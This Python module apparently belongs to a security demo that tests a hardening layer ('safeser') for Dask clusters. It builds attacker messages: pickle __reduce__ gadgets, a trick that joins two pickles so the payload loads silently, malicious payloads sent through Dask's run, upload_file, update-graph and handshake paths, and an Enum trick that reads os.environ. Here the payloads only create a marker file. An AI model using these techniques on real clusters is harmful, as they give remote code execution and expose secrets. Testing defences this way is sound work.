"""Messages of strangers and of bob, built with Dask's own comm API, the same for both clusters.

They are harmless: a payload that runs creates one empty marker file, which proves that it ran.
"""

from __future__ import annotations

import asyncio
import pickle
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from distributed.comm import connect
from distributed.comm.core import Comm
from distributed.protocol.serialize import Pickled, Serialized

__all__ = ["BUILDERS", "evil", "evil_value", "greet_with_pickle", "payload", "say"]

#: A refused stream gets no answer at all.
_ANSWER = 5.0
_CONNECT = 10.0


class _Touch:
    """Pickled, a call that creates the file."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self._marker,)


def evil(marker: Path) -> bytes:
    """Return a pickle that creates *marker* when it is loaded."""
    return pickle.dumps(_Touch(marker))


def evil_value(marker: Path, value: object) -> bytes:
    """Return a pickle that creates *marker* and loads as *value*, so that no error shows."""
    # Protocol 3 has no frames, so two pickles can be joined: the first without its STOP opcode,
    # its result popped.
    return pickle.dumps(_Touch(marker), 3)[:-1] + b"0" + pickle.dumps(value, 3)


def payload(marker: Path) -> Pickled:
    """Return the pickle as Dask sends a ``ToPickle``, which every recipient loads."""
    return Pickled({"pickled-obj": evil(marker)}, [])


# --- one builder for each of bob's attacks; each returns the forms of its message --------------


def _pickled(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    return [
        {"op": "identity", "note": payload(markers[0])},
        # The key by which stock Dask marks a pickle, written as ordinary message content.
        {"op": "identity", "note": {"__Pickled__": 1}, "frame": payload(markers[1])},
    ]


def _type_serialized(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    header = {**_array_header(evil(markers[0])), "sub-header": {}}
    return [{"op": "update_data", "data": {"x": Serialized(header, [b""])}}]


def _array_header(pickled_type: bytes) -> dict[str, Any]:
    return {
        "serializer": "dask",
        "type": "numpy.ndarray",
        "type-serialized": pickled_type,
        "is-cuda": False,
    }


def _object_array(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    import numpy as np

    stock = {**_array_header(pickle.dumps(np.ndarray)), "sub-header": {"pickle": True}}
    # The same array under safeser's own header, which names the type and never pickles it.
    meta = {"shape": [1], "order": "C", "writeable": True, "dtype": "|O"}
    translated = {"serializer": "dask", "type": "numpy:ndarray", "sub-header": meta}
    return [
        {"op": "update_data", "data": {"x": Serialized(header, [evil(marker)])}}
        for header, marker in zip((stock, translated), markers, strict=True)
    ]


def _run(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    return [{"op": "run", "function": evil(markers[0])}]


def _run_function(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    return [{"op": "run_function", "function": evil(markers[0])}]


def _upload_file(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    code = f"import pathlib\npathlib.Path({str(markers[0])!r}).touch()\n"
    return [{"op": "upload_file", "filename": "safeser_demo_upload.py", "data": code.encode()}]


def _enum(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del markers, secret
    # Dask's decoder reads two attributes of any of its modules: here distributed.utils.os.environ.
    read = {"__Enum__": True, "__module__": "distributed.utils", "__name__": "os"}
    return [{"op": "echo", "data": {**read, "name": "environ"}}]


def _update_graph(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    graph = Serialized({"serializer": "pickle", "writeable": ()}, [evil(markers[0])])
    return [
        {"op": "register-client", "client": "Client-bob", "reply": False, "versions": {}},
        {
            "op": "update-graph",
            "expr_ser": graph,
            "keys": ["x"],
            "internal_priority": None,
            "submitting_task": None,
            "span_metadata": {"collections": []},
        },
    ]


#: Bob's messages, one list for each attack. After a first message "register-client" the connection
#: is a stream for the others; otherwise each is a request on a connection of its own.
BUILDERS = {
    "pickled": _pickled,
    "type-serialized": _type_serialized,
    "object-array": _object_array,
    "run": _run,
    "run-function": _run_function,
    "upload-file": _upload_file,
    "enum": _enum,
    "update-graph": _update_graph,
}


async def say(
    address: str, messages: list[dict[str, Any]], options: Mapping[str, Any]
) -> list[str]:
    """Send *messages* to *address* and return the answers as text."""
    if messages[0]["op"] == "register-client":
        return [await _say_on_one(address, messages, options)]
    return [await _say_on_one(address, [message], options) for message in messages]


async def _say_on_one(
    address: str, messages: list[dict[str, Any]], options: Mapping[str, Any]
) -> str:
    comm = await connect(address, timeout=_CONNECT, **options)
    try:
        await comm.write(messages[0])
        answer = await _answer(comm)
        for message in messages[1:]:
            await comm.write([message])
            answer = await _answer(comm)
        return answer
    finally:
        comm.abort()


async def _answer(comm: Comm) -> str:
    try:
        return repr(await asyncio.wait_for(comm.read(), _ANSWER))
    except (OSError, TimeoutError) as error:
        return f"no answer ({type(error).__name__})"
    # An attacker may get any error, and none may end the demo.
    except Exception as error:
        return f"{type(error).__name__}: {error}"


async def greet_with_pickle(address: str, marker: Path, options: Mapping[str, Any]) -> str:
    """Connect to *address* with a pickle in the first message that Dask's handshake sends."""
    greeting = {"note": payload(marker)}
    try:
        comm = await connect(address, timeout=_CONNECT, handshake_overrides=greeting, **options)
    except Exception as error:  # any of them means: not connected
        return f"not connected ({type(error).__name__})"
    comm.abort()
    return "connected"
